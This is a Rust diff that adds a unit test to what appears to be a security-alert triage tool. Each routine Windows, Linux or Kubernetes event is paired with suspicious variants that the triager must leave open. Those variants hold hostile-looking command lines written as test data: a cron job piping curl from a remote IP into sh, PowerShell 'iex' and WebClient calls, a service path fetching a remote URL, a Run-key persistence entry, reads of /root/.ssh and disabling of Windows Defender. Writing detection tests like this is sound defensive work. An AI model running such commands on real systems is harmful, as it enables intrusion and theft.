@@ -139,6 +139,197 @@ fn soothing_words_of_the_attacker_change_nothing() {
     }
 }
 
+/// An alert as its words: level, groups, fields.
+fn said_of(level: u8, groups: &str, fields: &[(&str, &str)]) -> Disposition {
+    let fields = AlertFields {
+        title: "A rule".into(),
+        rule_id: Some("1".into()),
+        level: Some(level),
+        groups: groups.split(' ').map(str::to_owned).collect(),
+        fields: fields
+            .iter()
+            .map(|(path, value)| ((*path).to_owned(), (*value).to_owned()))
+            .collect(),
+        ..AlertFields::default()
+    };
+    let redactor = Redactor::new(RedactorSettings::default()).unwrap();
+    let evidence = redactor.redact(crate::Evidence::from_fields(&fields)).unwrap();
+    RuleTriager.verdict(&evidence, &Policy::default()).disposition()
+}
+
+const EVENT: &str = "data.win.system.eventID";
+const COMMAND: &str = "data.win.eventdata.commandLine";
+const IMAGE: &str = "data.win.eventdata.image";
+const PARENT: &str = "data.win.eventdata.parentImage";
+const SCRIPT: &str = "data.win.eventdata.scriptBlockText";
+const EXPLORER: &str = r"C:\Windows\explorer.exe";
+const RUNDLL: &str = r"C:\Windows\System32\rundll32.exe";
+const PANEL: &str = r"rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL C:\Windows\System32\desk.cpl";
+const BROWSER: &str = r"C:\Program Files\Mozilla Firefox\firefox.exe";
+
+#[test]
+#[expect(clippy::too_many_lines, reason = "a table of pairs")]
+fn everyday_work_is_closed_and_its_twin_that_is_none_stays_open() {
+    type Fields<'a> = &'a [(&'a str, &'a str)];
+    let cases: [(&str, Fields<'_>, Fields<'_>); 12] = [
+        (
+            "windows sysmon",
+            &[(EVENT, "1"), (COMMAND, PANEL), (IMAGE, RUNDLL), (PARENT, EXPLORER)],
+            &[
+                (
+                    COMMAND,
+                    r"rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL C:\Users\Public\desk.cpl",
+                ),
+                (IMAGE, r"C:\Users\e\rundll32.exe"),
+                (PARENT, r"C:\Windows\System32\mshta.exe"),
+            ],
+        ),
+        (
+            "windows sysmon",
+            &[
+                (EVENT, "1"),
+                (COMMAND, "ipconfig /all"),
+                (PARENT, r"C:\Windows\System32\cmd.exe"),
+            ],
+            &[
+                (COMMAND, "ipconfig /all & whoami"),
+                (COMMAND, r"ipconfig /all > C:\Users\Public\i.txt"),
+                (PARENT, r"C:\inetpub\w3wp.exe"),
+            ],
+        ),
+        (
+            "windows sysmon",
+            &[
+                (EVENT, "3"),
+                (IMAGE, BROWSER),
+                ("data.win.eventdata.destinationPort", "443"),
+            ],
+            &[
+                (IMAGE, r"C:\Users\e\AppData\Local\firefox.exe"),
+                ("data.win.eventdata.destinationPort", "4444"),
+            ],
+        ),
+        (
+            "windows sysmon",
+            &[
+                (EVENT, "22"),
+                (IMAGE, BROWSER),
+                ("data.win.eventdata.queryName", "update.example.com"),
+            ],
+            &[
+                ("data.win.eventdata.queryName", "a.duckdns.org"),
+                (IMAGE, r"C:\Program Files\nodejs\node.exe"),
+            ],
+        ),
+        (
+            "windows sysmon",
+            &[
+                (EVENT, "13"),
+                (IMAGE, r"C:\Windows\System32\svchost.exe"),
+                (
+                    "data.win.eventdata.targetObject",
+                    r"HKLM\System\CurrentControlSet\Services\W32Time\Config\LastKnownGoodTime",
+                ),
+            ],
+            &[
+                (
+                    "data.win.eventdata.targetObject",
+                    r"HKLM\Software\Microsoft\Windows\CurrentVersion\Run\x",
+                ),
+                ("data.win.eventdata.details", "powershell -nop"),
+            ],
+        ),
+        (
+            "windows powershell",
+            &[
+                (EVENT, "4104"),
+                (SCRIPT, "Get-Service | Where-Object Status -eq Stopped"),
+            ],
+            &[
+                (SCRIPT, "Get-Service; iex $x"),
+                (SCRIPT, "Get-Service | %{ [Net.WebClient] }"),
+            ],
+        ),
+        (
+            "windows windows_system",
+            &[
+                (EVENT, "7045"),
+                (
+                    "data.win.eventdata.imagePath",
+                    r#""C:\Program Files\VMware\VMware Tools\vmtoolsd.exe""#,
+                ),
+            ],
+            &[(
+                "data.win.eventdata.imagePath",
+                r"C:\Program Files\VMware\VMware Tools\..\..\x.exe -c http://x.example/",
+            )],
+        ),
+        (
+            "windows",
+            &[
+                (EVENT, "4726"),
+                ("data.win.eventdata.subjectUserName", "svc-hrsync"),
+                ("data.win.eventdata.targetUserName", "b.old"),
+            ],
+            &[
+                ("data.win.eventdata.targetUserName", "Administrator"),
+                ("data.win.eventdata.subjectUserName", "b.other"),
+            ],
+        ),
+        (
+            "audit audit_command",
+            &[
+                ("data.audit.command", "ls"),
+                ("data.audit.execve.a0", "ls"),
+                ("data.audit.execve.a1", "/var/log"),
+                ("data.audit.uid", "0"),
+            ],
+            &[("data.audit.execve.a1", "/root/.ssh"), ("data.audit.uid", "33")],
+        ),
+        (
+            "syslog cron",
+            &[("full_log", "host CRON[12]: (root) CMD (run-parts /etc/cron.daily)")],
+            &[
+                ("full_log", "host CRON[12]: (root) CMD (curl http://203.0.113.9/x | sh)"),
+                ("full_log", "host CRON[12]: (root) CMD (/tmp/x)"),
+            ],
+        ),
+        (
+            "k8s_audit",
+            &[
+                ("data.user.username", "system:serviceaccount:prod:shop"),
+                ("data.verb", "get"),
+                ("data.objectRef.resource", "configmaps"),
+            ],
+            &[
+                ("data.objectRef.resource", "secrets"),
+                ("data.user.username", "system:anonymous"),
+            ],
+        ),
+        (
+            "windows windows_system",
+            &[
+                (EVENT, "7040"),
+                ("data.win.eventdata.param4", "BITS"),
+                ("data.win.eventdata.param3", "demand start"),
+            ],
+            &[
+                ("data.win.eventdata.param4", "WinDefend"),
+                ("data.win.eventdata.param3", "disabled"),
+            ],
+        ),
+    ];
+    for (groups, everyday, twins) in cases {
+        assert!(said_of(3, groups, everyday).is_benign(), "{everyday:?}");
+        assert!(!said_of(12, groups, everyday).is_benign(), "{everyday:?}");
+        for &(path, value) in twins {
+            let mut twin: Vec<_> = everyday.iter().copied().filter(|(other, _)| *other != path).collect();
+            twin.push((path, value));
+            assert!(!said_of(3, groups, &twin).is_benign(), "{twin:?}");
+        }
+    }
+}
+
 proptest! {
     #[test]
     fn it_judges_any_evidence(
